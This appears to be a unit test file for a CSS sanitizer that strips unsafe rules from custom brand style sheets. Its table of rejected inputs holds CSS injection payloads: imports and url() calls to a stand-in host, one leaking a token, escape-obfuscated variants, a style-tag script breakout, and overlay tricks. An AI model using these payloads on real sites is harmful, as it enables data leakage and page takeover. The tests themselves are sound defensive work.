import { sanitizeCustomCss } from './custom-css';

test('what only styles passes', () => {
  const css = `
    /* the brand's touch */
    .m-card, .m-button--primary:hover { border-top: 3px solid #0f6b5c; letter-spacing: 0.02em }
    h1 { font-family: "Archivo Black", Poppins, sans-serif; text-transform: uppercase; color: var(--m-primary); }
    @media (min-width: 600px) { .m-card { padding: 24px } }
    a:not(.plain) { background: linear-gradient(90deg, rgba(15, 107, 92, 0.5), #fff) }`;
  expect(sanitizeCustomCss(css)).toBe(
    [
      '.m-card, .m-button--primary:hover { border-top: 3px solid #0f6b5c; letter-spacing: 0.02em; }',
      'h1 { font-family: "Archivo Black", Poppins, sans-serif; text-transform: uppercase; color: var(--m-primary); }',
      '@media (min-width: 600px) {',
      '.m-card { padding: 24px; }',
      '}',
      'a:not(.plain) { background: linear-gradient(90deg, rgba(15, 107, 92, 0.5), #fff); }',
    ].join('\n'),
  );
});

test('cleaning twice changes nothing', () => {
  const once = sanitizeCustomCss('.a { color: red } @media print { .b { color: blue; position: fixed } }');
  expect(sanitizeCustomCss(once)).toBe(once);
});

test.each([
  ['an import', '@import url("https://evil.test/x.css");'],
  ['an import by name', '@import "https://evil.test/x.css";'],
  ['an import without an end', '@import "https://evil.test/x.css"'],
  ['an import that hides in a comment', '@imp/**/ort "https://evil.test/x.css";'],
  ['an import by an escape', '@\\69mport "https://evil.test/x.css";'],
  ['an address', '.a { background: url(https://evil.test/?token) }'],
  ['an address in capitals', '.a { background: URL ( "https://evil.test" ) }'],
  ['an address by an escape', '.a { background: \\75rl(https://evil.test) }'],
  ['an image set', '.a { background: image-set("https://evil.test/x.png" 1x) }'],
  ['an address behind a variable', '.a { --x: url(https://evil.test); background: var(--x) }'],
  ['an old expression', '.a { color: expression(alert(1)) }'],
  ['an old binding', '.a { -moz-binding: url(https://evil.test/x.xml#x); behavior: url(x.htc) }'],
  ['a font', '@font-face { font-family: Poppins; src: url(https://evil.test/x.woff2) }'],
  ['a fixed cover', '.a { position: fixed; inset: 0 }'],
  ['an absolute cover', 'body::before { content: ""; position: absolute; z-index: 99999; width: 100vw }'],
  ['a high layer', '.m-card { z-index: 2147483647 }'],
  ['a hidden page', 'html, body, #root { display: none }'],
  ['an invisible shell', '.h-shell { visibility: hidden; opacity: 0 }'],
  ['a moved shell', '.h-shell { transform: translateX(-100%); margin-left: -100% }'],
  ['a shadow that covers', '.m-card { box-shadow: 0 0 0 9999px #000 }'],
  ['an edge that covers', '.m-card { border: 99vw solid #000 }'],
  ['space by a formula', '.m-card { padding: calc(100% * 9) }'],
  ['a number in powers of ten', '.m-card { padding: 1e9px }'],
  ['an important one', '.m-card { color: red !important }'],
  ['a variable of ours', '.h-shell { --m-text: #fff }'],
  ['an unknown value', '.a { color: attr(x) }'],
  ['the end of the layer', '} } .h-shell { position: fixed }'],
  ['the end of the style element', '</style><script>alert(1)</script>'],
  ['a selector that runs on', '.a[title=" { color: red } .b'],
  ['a string that runs on', '.a { font-family: "x }'],
  ['a nested rule', '.a { .b { color: red } }'],
  ['a layer above ours', '@layer brand, over; @layer over { .a { color: red } }'],
  ['an animation', '@keyframes x { from { color: red } } .a { animation: x 1s }'],
  ['a selector that looks around', ':root:has(.h-shell) { color: red }'],
])('%s is left out', (_, css) => {
  expect(sanitizeCustomCss(css)).toBe('');
});

test('what is bad does not take the good beside it', () => {
  const css = '@import "x";.a{position:fixed;color:red}.b{background:url(x);}.c{color:blue}/* open';
  expect(sanitizeCustomCss(css)).toBe('.a { color: red; }\n.c { color: blue; }');
});

test('a style sheet of unreasonable length is not taken', () => {
  expect(sanitizeCustomCss('.a{color:red}'.repeat(5_000))).toBe('');
});
